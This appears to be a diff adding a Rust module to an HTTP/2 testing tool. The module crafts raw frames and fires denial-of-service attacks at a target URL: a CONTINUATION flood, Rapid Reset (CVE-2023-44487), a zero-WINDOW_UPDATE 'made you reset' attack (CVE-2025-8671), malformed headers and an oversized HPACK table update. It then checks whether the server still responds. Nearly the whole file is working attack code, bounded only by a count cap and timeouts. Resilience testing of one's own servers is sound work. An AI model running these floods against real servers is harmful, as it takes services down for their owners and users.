@@ -0,0 +1,302 @@
+use std::collections::HashSet;
+use std::io;
+use std::time::{Duration, Instant};
+
+use anyhow::bail;
+use byteorder::{ByteOrder, NetworkEndian};
+use bytes::{Bytes, BytesMut};
+use chrono::TimeDelta;
+use tokio::io::{AsyncReadExt, AsyncWriteExt};
+
+use crate::{
+    H2AttackOutput, H2AttackPlanOutput, H2ExchangeOutput, H2FrameSummaryOutput, Http2FrameType,
+};
+
+use super::socket::BoxStream;
+use super::{grpc_reflect, hpack, Context};
+
+const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
+
+const HEADERS: u8 = 0x1;
+const RST_STREAM: u8 = 0x3;
+const SETTINGS: u8 = 0x4;
+const PING: u8 = 0x6;
+const GOAWAY: u8 = 0x7;
+const WINDOW_UPDATE: u8 = 0x8;
+const CONTINUATION: u8 = 0x9;
+
+const END_STREAM: u8 = 0x1;
+const ACK: u8 = 0x1;
+const END_HEADERS: u8 = 0x4;
+
+const CANCEL: u32 = 0x8;
+
+/// How many received frames each exchange keeps in its output.
+const MAX_RECORDED: usize = 100;
+/// The most streams or frames an attack may send, to bound the memory used to build them.
+const MAX_COUNT: u64 = 100_000;
+
+/// Send the attack's frames over a single connection, recording how the server responds to each
+/// batch, then check whether it still answers a normal request.
+pub(super) async fn h2_attack(ctx: &Context, plan: H2AttackPlanOutput) -> H2AttackOutput {
+    let start = Instant::now();
+    let mut out = H2AttackOutput {
+        exchanges: Vec::new(),
+        alive: false,
+        error: None,
+        duration: TimeDelta::zero().into(),
+        plan,
+    };
+    if let Err(e) = attack(ctx, &mut out).await {
+        out.error = Some(format!("{e:#}"));
+    }
+    out.duration = TimeDelta::from_std(start.elapsed())
+        .unwrap_or(TimeDelta::MAX)
+        .into();
+    out
+}
+
+async fn attack(ctx: &Context, out: &mut H2AttackOutput) -> anyhow::Result<()> {
+    let mut next_stream = 1;
+    let batches = batches(&out.plan, &mut next_stream)?;
+    let mut conn = Connection {
+        stream: grpc_reflect::dial(ctx, &out.plan.url).await?,
+        buf: BytesMut::new(),
+        timeout: out.plan.timeout.0.to_std().unwrap_or_default(),
+        closed: false,
+        answered: HashSet::new(),
+    };
+
+    let mut handshake = PREFACE.to_vec();
+    handshake.extend(frame(SETTINGS, 0, 0, &[]));
+    out.exchanges
+        .push(conn.exchange("handshake", vec![handshake]).await);
+    for (name, frames) in batches {
+        out.exchanges.push(conn.exchange(name, frames).await);
+    }
+
+    let probe = frame(
+        HEADERS,
+        END_STREAM | END_HEADERS,
+        next_stream,
+        &hpack::request(&out.plan.url),
+    );
+    out.exchanges
+        .push(conn.exchange("probe", vec![probe]).await);
+    out.alive = conn.answered.contains(&next_stream);
+    Ok(())
+}
+
+/// The named batches of frames for the planned attack, each sent before waiting for replies.
+fn batches(
+    plan: &H2AttackPlanOutput,
+    next_stream: &mut u32,
+) -> anyhow::Result<Vec<(&'static str, Vec<Vec<u8>>)>> {
+    if plan.count > MAX_COUNT {
+        bail!("h2_attack.count must be at most {MAX_COUNT}");
+    }
+    let mut stream = || {
+        let id = *next_stream;
+        *next_stream += 2;
+        id
+    };
+    let request = hpack::request(&plan.url);
+    Ok(match plan.attack.as_str() {
+        // A header block without even the required pseudo-headers.
+        "empty_headers" => vec![(
+            "empty_headers",
+            vec![frame(HEADERS, END_STREAM | END_HEADERS, stream(), &[])],
+        )],
+        // Header blocks that never end, which servers buffer until they run out of memory
+        // unless they limit the total size.
+        "continuation_flood" => {
+            let id = stream();
+            let value = [b'a'; 1024];
+            let continuations = (0..plan.count)
+                .map(|i| {
+                    let mut block = Vec::new();
+                    hpack::literal(&mut block, format!("x-devil-{i}").as_bytes(), &value);
+                    frame(CONTINUATION, 0, id, &block)
+                })
+                .collect();
+            vec![
+                ("headers", vec![frame(HEADERS, END_STREAM, id, &request)]),
+                ("continuation_flood", continuations),
+            ]
+        }
+        // Requests cancelled as soon as they're sent, which never count against the server's
+        // concurrent stream limit but still cost it the work of starting each one
+        // (CVE-2023-44487).
+        "rapid_reset" => {
+            let frames = (0..plan.count)
+                .flat_map(|_| {
+                    let id = stream();
+                    [
+                        frame(HEADERS, END_STREAM | END_HEADERS, id, &request),
+                        frame(RST_STREAM, 0, id, &CANCEL.to_be_bytes()),
+                    ]
+                })
+                .collect();
+            vec![("rapid_reset", frames)]
+        }
+        // Requests followed by a zero WINDOW_UPDATE, so the server resets each stream itself
+        // and may not count them the way it counts client resets (CVE-2025-8671).
+        "made_you_reset" => {
+            let frames = (0..plan.count)
+                .flat_map(|_| {
+                    let id = stream();
+                    [
+                        frame(HEADERS, END_STREAM | END_HEADERS, id, &request),
+                        frame(WINDOW_UPDATE, 0, id, &0u32.to_be_bytes()),
+                    ]
+                })
+                .collect();
+            vec![("made_you_reset", frames)]
+        }
+        // A dynamic table size update far larger than the server's SETTINGS_HEADER_TABLE_SIZE,
+        // which must be treated as a compression error.
+        "hpack_table_update" => {
+            let mut block = Vec::new();
+            hpack::size_update(&mut block, u32::MAX.into());
+            block.extend_from_slice(&request);
+            vec![(
+                "hpack_table_update",
+                vec![frame(HEADERS, END_STREAM | END_HEADERS, stream(), &block)],
+            )]
+        }
+        attack => bail!("unknown h2_attack.attack {attack:?}"),
+    })
+}
+
+fn frame(kind: u8, flags: u8, stream_id: u32, payload: &[u8]) -> Vec<u8> {
+    let len = u32::try_from(payload.len()).expect("frame payloads should fit in 24 bits");
+    let mut out = Vec::with_capacity(9 + payload.len());
+    out.extend_from_slice(&len.to_be_bytes()[1..]);
+    out.push(kind);
+    out.push(flags);
+    out.extend_from_slice(&stream_id.to_be_bytes());
+    out.extend_from_slice(payload);
+    out
+}
+
+struct Frame {
+    kind: u8,
+    flags: u8,
+    stream_id: u32,
+    payload: Bytes,
+}
+
+struct Connection {
+    stream: BoxStream,
+    buf: BytesMut,
+    timeout: Duration,
+    closed: bool,
+    /// Streams the server sent response headers for.
+    answered: HashSet<u32>,
+}
+
+impl Connection {
+    /// Write each frame, then read until the server is quiet for the timeout or closes the
+    /// connection.
+    async fn exchange(&mut self, name: &str, frames: Vec<Vec<u8>>) -> H2ExchangeOutput {
+        let start = Instant::now();
+        let mut out = H2ExchangeOutput {
+            name: name.to_owned(),
+            frames_sent: 0,
+            frames_received: 0,
+            rst_streams: 0,
+            goaway: None,
+            closed: self.closed,
+            received: Vec::new(),
+            duration: TimeDelta::zero().into(),
+        };
+        if self.closed {
+            return out;
+        }
+        for frame in &frames {
+            if self.stream.write_all(frame).await.is_err() {
+                break;
+            }
+            out.frames_sent += 1;
+        }
+        let _ = self.stream.flush().await;
+
+        // Floods can keep a server busy replying long after the last frame was sent, so cap the
+        // total wait as well.
+        let deadline = tokio::time::Instant::now() + self.timeout * 10;
+        loop {
+            let idle = (tokio::time::Instant::now() + self.timeout).min(deadline);
+            let frame = match tokio::time::timeout_at(idle, self.read_frame()).await {
+                Err(_) => break,
+                Ok(Ok(Some(frame))) => frame,
+                Ok(Ok(None) | Err(_)) => {
+                    self.closed = true;
+                    break;
+                }
+            };
+            out.frames_received += 1;
+            let error_code = match frame.kind {
+                RST_STREAM if frame.payload.len() >= 4 => {
+                    out.rst_streams += 1;
+                    Some(NetworkEndian::read_u32(&frame.payload))
+                }
+                GOAWAY if frame.payload.len() >= 8 => {
+                    let code = NetworkEndian::read_u32(&frame.payload[4..]);
+                    out.goaway = Some(code);
+                    Some(code)
+                }
+                _ => None,
+            };
+            if frame.kind == HEADERS {
+                self.answered.insert(frame.stream_id);
+            }
+            // Keep the connection healthy so only the attack decides whether it closes.
+            if frame.flags & ACK == 0 {
+                let reply = match frame.kind {
+                    SETTINGS => Some(self::frame(SETTINGS, ACK, 0, &[])),
+                    PING => Some(self::frame(PING, ACK, 0, &frame.payload)),
+                    _ => None,
+                };
+                if let Some(reply) = reply {
+                    let _ = self.stream.write_all(&reply).await;
+                }
+            }
+            if out.received.len() < MAX_RECORDED {
+                out.received.push(H2FrameSummaryOutput {
+                    kind: Http2FrameType::new(frame.kind).to_string(),
+                    stream_id: frame.stream_id,
+                    flags: frame.flags,
+                    length: frame.payload.len().try_into().unwrap_or(u32::MAX),
+                    error_code,
+                });
+            }
+        }
+        out.closed = self.closed;
+        out.duration = TimeDelta::from_std(start.elapsed())
+            .unwrap_or(TimeDelta::MAX)
+            .into();
+        out
+    }
+
+    /// Read the next frame, or None if the server closed the connection. Cancel safe, since
+    /// partial frames stay buffered.
+    async fn read_frame(&mut self) -> io::Result<Option<Frame>> {
+        loop {
+            if self.buf.len() >= 9 {
+                let len: usize = NetworkEndian::read_u24(&self.buf).try_into().unwrap();
+                if self.buf.len() >= 9 + len {
+                    let header = self.buf.split_to(9);
+                    return Ok(Some(Frame {
+                        kind: header[3],
+                        flags: header[4],
+                        stream_id: NetworkEndian::read_u32(&header[5..]) & !(1 << 31),
+                        payload: self.buf.split_to(len).freeze(),
+                    }));
+                }
+            }
+            if self.stream.read_buf(&mut self.buf).await? == 0 {
+                return Ok(None);
+            }
+        }
+    }
+}